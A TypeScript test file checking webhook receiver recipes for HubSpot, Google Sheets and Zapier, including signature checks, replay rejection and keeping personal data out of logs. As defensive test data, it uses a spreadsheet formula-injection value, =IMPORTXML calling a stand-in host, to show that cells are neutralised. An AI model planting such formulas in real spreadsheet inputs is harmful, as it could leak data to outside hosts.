/** The recipes of docs/webhook.md, each against a stand-in of the program it hands on to. */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import { createRequire } from "node:module";
import type { AddressInfo } from "node:net";
import path from "node:path";
import vm from "node:vm";
import { expect, onTestFinished, test } from "vitest";
import { announce } from "#requests/sending/webhook.server.ts";

const SECRET = "a secret of 24 characters or more";
const TOKEN = "token-of-the-other-program";
const EMAIL = "jane.sample@example.com";
const PHONE = "+15615550100";
const FORMULA = '=IMPORTXML("https://evil.example", "//a")';

const request = (changed: object = {}) => ({
  type: "request.received",
  timestamp: "2026-11-21T15:00:00.000Z",
  data: {
    reference: "7HQ-4XW-9CM",
    kind: "pricing",
    createdAt: "2026-11-21T15:00:00.000Z",
    doNotContact: false,
    language: "en",
    name: "Jane Sample",
    email: EMAIL,
    phone: "",
    answers: { services: ["roofing", "solar"], zip: "33435", way: "email", hours: [], message: "" },
    consents: [],
    ...changed,
  },
});
const stop = (contact: string) => ({
  type: "contact.stopped",
  timestamp: "2026-11-21T16:00:00.000Z",
  data: { contact, references: [] },
});

/** Announces as the site does, and gives the status of the answer. */
async function tell(url: string, announcement: object, id = "1-a", secret = SECRET) {
  const webhook = { url, secret };
  const body = JSON.stringify(announcement);
  try {
    await announce(webhook, { id, body }, AbortSignal.timeout(20_000));
    return "taken";
  } catch (error) {
    return (error as { responseCode?: number }).responseCode;
  }
}

type Answers = (request: IncomingMessage, body: string, response: ServerResponse) => void;

async function standIn(answers: Answers): Promise<string> {
  const server = createServer(async (asked, response) => {
    answers(asked, (await asked.setEncoding("utf8").toArray()).join(""), response);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const file = (name: string) => path.join(import.meta.dirname, name);

/** Starts a receiver as a process of its own. */
async function startReceiver(recipe: string, settings: Record<string, string>) {
  const receiver = spawn(process.execPath, [file(recipe)], {
    env: { WEBHOOK_SECRET: SECRET, RECEIVER_PORT: "0", ...settings },
  });
  onTestFinished(() => void receiver.kill());
  let said = "";
  for (const channel of [receiver.stdout, receiver.stderr]) {
    channel.setEncoding("utf8").on("data", (text: string) => (said += text));
  }
  let url: string | undefined;
  while (!(url = /at (\S+)/.exec(said)?.[1])) await once(receiver.stdout, "data");
  return { url, log: () => said };
}

function json(response: ServerResponse, status: number, body: object) {
  response.writeHead(status, { "Content-Type": "application/json" }).end(JSON.stringify(body));
}

/** HubSpot's contacts, as far as its documentation tells: 2026-03, one by one, and the search. */
async function hubspot() {
  const contacts: Record<string, string>[] = [];
  let refusal: number | undefined;
  const url = await standIn((asked, body, response) => {
    const { pathname, searchParams } = new URL(asked.url ?? "", "http://hubspot.example");
    if (asked.headers.authorization !== `Bearer ${TOKEN}`) return json(response, 401, {});
    if (refusal) return json(response, refusal, { message: EMAIL });
    const [, id] = /^\/crm\/objects\/2026-03\/contacts(?:\/(.+))?$/.exec(pathname) ?? [];
    const { properties, filterGroups } = JSON.parse(body);
    if (asked.method === "POST" && id === "search") {
      const { propertyName, value } = filterGroups[0].filters[0];
      return json(response, 200, {
        results: contacts.filter((one) => one[propertyName] === value),
      });
    }
    if (asked.method === "POST") {
      if (contacts.some(({ email }) => email && email === properties.email))
        return json(response, 409, {});
      contacts.push({ ...properties, id: String(contacts.length + 1) });
      return json(response, 201, contacts.at(-1) ?? {});
    }
    const by = searchParams.get("idProperty") ?? "id";
    const found = contacts.find((one) => one[by] === decodeURIComponent(id ?? ""));
    if (!found) return json(response, 404, {});
    return json(response, 200, Object.assign(found, properties));
  });
  const { url: at, log } = await startReceiver("hubspot.ts", {
    HUBSPOT_TOKEN: TOKEN,
    HUBSPOT_API: url,
  });
  return { contacts, at, log, refuse: (status?: number) => (refusal = status) };
}

test("HubSpot has one contact for each person, however often it is told", async () => {
  const { contacts, at } = await hubspot();
  for (const id of ["1-a", "1-a", "2-a"]) expect(await tell(at, request(), id)).toBe("taken");
  for (const id of ["3-a", "3-a"]) {
    await tell(at, request({ email: "", phone: PHONE, name: "Ann" }), id);
  }
  await tell(at, request({ kind: "deletion", email: "leaving@example.com" }), "4-a");
  expect(contacts).toEqual([
    {
      id: "1",
      email: EMAIL,
      firstname: "Jane Sample",
      zip: "33435",
      website_reference: "7HQ-4XW-9CM",
      website_request: "kind: pricing\nservices: roofing, solar\nzip: 33435\nway: email",
    },
    expect.objectContaining({ id: "2", phone: PHONE, website_phone: PHONE, firstname: "Ann" }),
  ]);
});

test("HubSpot is told of stops, by e-mail address and by phone number, and takes none back", async () => {
  const { contacts, at } = await hubspot();
  await tell(at, request(), "1-a");
  await tell(at, request({ email: "", phone: PHONE }), "2-a");
  expect(await tell(at, stop("stranger@example.com"), "3-a")).toBe("taken");
  await tell(at, stop(PHONE), "4-a");
  const stopped = () => contacts.map(({ website_stopped: word }) => word);
  expect(stopped()).toEqual([undefined, "yes"]);
  await tell(at, stop(EMAIL), "5-a");
  await tell(at, request(), "1-a");
  expect(stopped()).toEqual(["yes", "yes"]);
});

test("what HubSpot does not take is answered so that it comes again; nothing personal is logged", async () => {
  const { contacts, at, log, refuse } = await hubspot();
  refuse(429);
  expect(await tell(at, request())).toBe(502);
  refuse();
  expect(await tell(at, request())).toBe("taken");
  expect(contacts).toHaveLength(1);
  expect(log()).toContain("1-a was not taken: HubSpot answered 429");
  expect(log()).not.toContain(EMAIL);
});

test("a receiver takes nothing from anybody but the site, and nothing old", async () => {
  const { contacts, at } = await hubspot();
  expect(await tell(at, request(), "1-a", "some other secret, just as long")).toBe(401);
  expect((await fetch(at, { method: "POST", body: JSON.stringify(request()) })).status).toBe(401);
  const { now } = Date;
  Date.now = () => now() - 6 * 60_000;
  onTestFinished(() => void (Date.now = now));
  expect(await tell(at, request())).toBe(401);
  expect(contacts).toEqual([]);
});

/** Google's side: the script of the recipe, run with what it uses of Google's, and the detour of its answers. */
async function googleSheet() {
  const rows: string[][] = [];
  const appended: string[][] = [];
  let fails = false;
  const sheet = {
    getLastRow: () => rows.length,
    appendRow(cells: string[]) {
      appended.push(cells);
      rows.push(cells.map((cell) => cell.replace(/^'/, "")));
    },
    getRange: (range: string) => ({
      createTextFinder: (text: string) => ({
        matchEntireCell: () => ({
          findNext: () => (range === "A:A" && rows.some(([id]) => id === text) ? {} : null),
        }),
      }),
    }),
  };
  const google = vm.createContext({
    SpreadsheetApp: {
      getActiveSpreadsheet: () => {
        if (fails) throw new Error("The service is too busy");
        return { getSheets: () => [sheet] };
      },
      flush: () => undefined,
    },
    PropertiesService: { getScriptProperties: () => ({ getProperty: () => TOKEN }) },
    LockService: { getScriptLock: () => ({ waitLock: () => {}, releaseLock: () => {} }) },
    ContentService: {
      MimeType: { JSON: "application/json" },
      createTextOutput: (text: string) => ({ setMimeType: () => text }),
    },
  });
  vm.runInContext(readFileSync(file("google-sheet.gs"), "utf8"), google);
  const said: string[] = [];
  const url = await standIn((asked, body, response) => {
    if (asked.method === "GET") {
      return void response.writeHead(200, { "Content-Type": "application/json" }).end(said.at(-1));
    }
    try {
      said.push(google.doPost({ postData: { contents: body } }));
      response.writeHead(302, { Location: "/macros/echo" }).end();
    } catch {
      response.writeHead(200, { "Content-Type": "text/html" }).end("<title>Error</title>");
    }
  });
  const receiver = await startReceiver("google-sheet.ts", {
    GOOGLE_SHEET_URL: `${url}/exec`,
    GOOGLE_SHEET_TOKEN: TOKEN,
  });
  return { rows, appended, ...receiver, fail: (now: boolean) => (fails = now) };
}

test("a Google Sheet has a row for each announcement, and visitors write no formulas", async () => {
  const { rows, appended, url } = await googleSheet();
  expect(await tell(url, request({ name: FORMULA }), "1-a")).toBe("taken");
  expect(await tell(url, request({ name: FORMULA }), "1-a")).toBe("taken");
  // Whoever guesses the id of the next announcement must not keep it away.
  await tell(url, request({ name: "3-a", phone: PHONE }), "2-a");
  await tell(url, stop(PHONE), "3-a");
  const [headings = [], ...told] = rows;
  expect(told.map((row) => Object.fromEntries(headings.map((name, n) => [name, row[n]])))).toEqual([
    expect.objectContaining({ Id: "1-a", What: "pricing", Name: FORMULA, Email: EMAIL }),
    expect.objectContaining({ Id: "2-a", Phone: PHONE }),
    expect.objectContaining({ Id: "3-a", What: "do not contact", "Do not contact": PHONE }),
  ]);
  for (const cell of appended.slice(1).flat()) expect(cell).toMatch(/^'/);
});

test("what a Google Sheet does not take comes again, though Google says 200", async () => {
  const { rows, url, log, fail } = await googleSheet();
  fail(true);
  expect(await tell(url, request())).toBe(502);
  fail(false);
  expect(await tell(url, request())).toBe("taken");
  expect(rows).toHaveLength(2);
  expect(log()).not.toContain(EMAIL);
});

test("a Zap goes on with what our site announces, and with nothing else", async () => {
  let caught: Record<string, unknown> = {};
  const url = await standIn(({ headers }, body, response) => {
    const [id, timestamp, signature] = ["id", "timestamp", "signature"].map(
      (name) => headers[`webhook-${name}`],
    );
    caught = { id, timestamp, signature, body };
    json(response, 200, { status: "success" });
  });
  expect(await tell(`${url}/hooks/catch/123456/abcdef/`, request())).toBe("taken");
  const code = readFileSync(file("zapier.js"), "utf8").replace("put the secret here", SECRET);
  const run = (inputData: object) => {
    const zap = { inputData, require: createRequire(import.meta.url), Buffer, output: {} };
    vm.runInNewContext(code, zap);
    return zap.output;
  };
  expect(run(caught)).toMatchObject({
    id: "1-a",
    reference: "7HQ-4XW-9CM",
    email: EMAIL,
    answers: "services: roofing, solar\nzip: 33435\nway: email",
  });
  expect(() => run({ ...caught, body: `${String(caught.body)} ` })).toThrow("not from our website");
  expect(() => run({ body: "{}" })).toThrow("not from our website");
});
